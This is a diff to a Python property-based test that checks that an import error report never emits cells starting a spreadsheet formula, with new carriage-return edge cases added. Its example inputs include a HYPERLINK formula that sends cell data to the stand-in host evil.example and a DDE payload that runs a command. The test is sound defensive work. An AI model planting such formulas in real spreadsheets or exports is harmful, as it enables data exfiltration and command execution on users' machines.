@@ -42,6 +42,8 @@ def report_cells(path: Path) -> list[str]:
 @given(gender=HOSTILE_GENDER)
 @example(gender='=HYPERLINK("https://evil.example/?"&A1,"Click")')
 @example(gender="=cmd|' /C calc'!A0")
+@example(gender="\r")
+@example(gender="\r0")  # a bare carriage return inside a field once broke COPY
 def test_no_cell_of_the_error_report_starts_a_formula(run_import, tmp_path, gender):
     path = write_file(tmp_path, "persons", [person_row(SARA, gender=gender)])
 
@@ -49,5 +51,7 @@ def test_no_cell_of_the_error_report_starts_a_formula(run_import, tmp_path, gend
 
     assert summary.error_report is not None
     cells = report_cells(summary.error_report)
-    assert any(gender in cell for cell in cells)  # the operator still sees what was wrong
+    # The operator still sees what was wrong (as the import read it: the COPY path, like a
+    # spreadsheet, takes a lone carriage return for the end of the line).
+    assert any(gender.strip() in cell for cell in cells)
     assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
